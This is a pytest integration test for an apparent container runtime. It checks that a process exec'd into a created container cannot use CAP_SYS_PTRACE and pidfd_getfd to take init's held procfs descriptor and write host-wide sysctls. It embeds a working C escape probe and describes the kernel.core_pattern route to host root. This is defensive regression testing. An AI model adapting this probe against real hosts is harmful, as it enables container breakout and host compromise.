"""What init holds while a created container waits on its exec fifo, seen by a process exec'd into it.

A config without a /proc mount makes init reopen the fifo through a procfs of the container's own,
made with fsmount(2) and mounted nowhere (``init._own_proc``). That descriptor is open in init for
as long as the container stays ``created``. A process exec'd into it holding CAP_SYS_PTRACE (which
overrides "not dumpable") can take it with pidfd_getfd(2) (the default seccomp profile allows it
with that capability), or ptrace init into using it: whatever that procfs shows, the attacker
reaches as the container's root, past every masked and read-only path. Without a user namespace
the container's root is the host's, so a full procfs there (its /proc/sys) is every host-wide
sysctl (``kernel.core_pattern``: code run as the host's root).

The attacker is a static C program built by the test (as in test_exe_escape.py).
"""

from __future__ import annotations

import signal

import pytest

from conftest import exec_in, rootfs_with_static_program, unique_id, wait_for
from declarative_ct.configs import DEFAULT_CAPABILITIES, Capabilities, default_mounts
from declarative_ct.runtime import Process
from declarative_ct.runtime.seccomp_profile import default_profile

pytestmark = pytest.mark.integration

# A host-wide sysctl (no namespace has its own): written with the value it has, so the host is
# left as it was whatever the outcome.
HOST_SYSCTL = "sys/kernel/printk_ratelimit_burst"

GRABBER_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <unistd.h>

/* Take every descriptor of PID 1 (init, waiting on the exec fifo); through each procfs among
   them, rewrite a host-wide sysctl with its own value. */
int main(int argc, char **argv) {
    int pidfd = syscall(434 /* pidfd_open */, 1, 0);
    if (pidfd < 0) { perror("pidfd_open"); return 2; }
    for (int n = 0; n < 1024; n++) {
        int fd = syscall(438 /* pidfd_getfd */, pidfd, n, 0);
        if (fd < 0) continue;
        printf("GOT %d\n", n);
        struct statfs sf;
        if (fstatfs(fd, &sf) == 0 && sf.f_type == 0x9fa0 /* PROC_SUPER_MAGIC */) {
            printf("PROCFS %d\n", n);
            int w = openat(fd, argv[1], O_RDWR);
            if (w < 0) { printf("no %s: %s\n", argv[1], strerror(errno)); }
            else {
                char value[64] = {0};
                ssize_t len = read(w, value, sizeof value - 1);
                if (len > 0 && pwrite(w, value, len, 0) == len) printf("WROTE-HOST-SYSCTL %s", value);
                close(w);
            }
        }
        close(fd);
    }
    printf("done\n");
    return 0;
}
"""


@pytest.fixture(scope="module")
def grabber_rootfs(busybox_rootfs, tmp_path_factory) -> str:
    """A copy of the busybox rootfs with the attacker at ``/grab`` (built with ``cc -static``)."""
    return rootfs_with_static_program(busybox_rootfs, tmp_path_factory.mktemp("held-procfs"), "grab",
                                      GRABBER_C.replace("#include <fcntl.h>", "#include <errno.h>\n#include <fcntl.h>"))


@pytest.mark.parametrize("monitor", [True, False], ids=["monitor", "stage1"])
def test_attack_no_proc_mount_init_holds_no_procfs_with_host_sysctls(busybox_config, runtime, grabber_rootfs,
                                                                     monitor):
    """ATTACK: no /proc mount and a sysctl (init made a full procfs for it); the container created,
    not started. A process exec'd with CAP_SYS_PTRACE (and the default seccomp profile for it)
    takes init's descriptors: the procfs among them must not show /proc/sys, or the container's
    root (the host's: no user namespace) writes host-wide sysctls."""
    caps = [*DEFAULT_CAPABILITIES, "CAP_SYS_PTRACE"]
    cfg = busybox_config(mounts=[m for m in default_mounts() if m.destination != "/proc"], mask_paths=[],
                         readonly_paths=[], sysctl={"net.ipv4.ip_forward": "1"},
                         capabilities=Capabilities(Bounding=caps, Effective=caps, Permitted=caps),
                         seccomp=default_profile(caps))
    cfg.rootfs = grabber_rootfs
    with open(f"/proc/{HOST_SYSCTL}") as f:
        before = f.read()
    c = runtime.create(unique_id("held-procfs"), cfg)
    try:
        c.start(Process(["sleep", "30"]), monitor=monitor, detach=True)  # created: init waits on the fifo
        code, out = exec_in(c, ["/grab", HOST_SYSCTL])
        assert code == 0 and out.splitlines()[-1] == "done", out
        # The control: the attacker did take init's descriptors, the procfs among them.
        assert "PROCFS" in out, out
        assert "WROTE-HOST-SYSCTL" not in out, out
    finally:
        c.signal(signal.SIGKILL)
        wait_for(lambda: str(c.status()) == "stopped")
        c.destroy()
        with open(f"/proc/{HOST_SYSCTL}") as f:
            assert f.read() == before
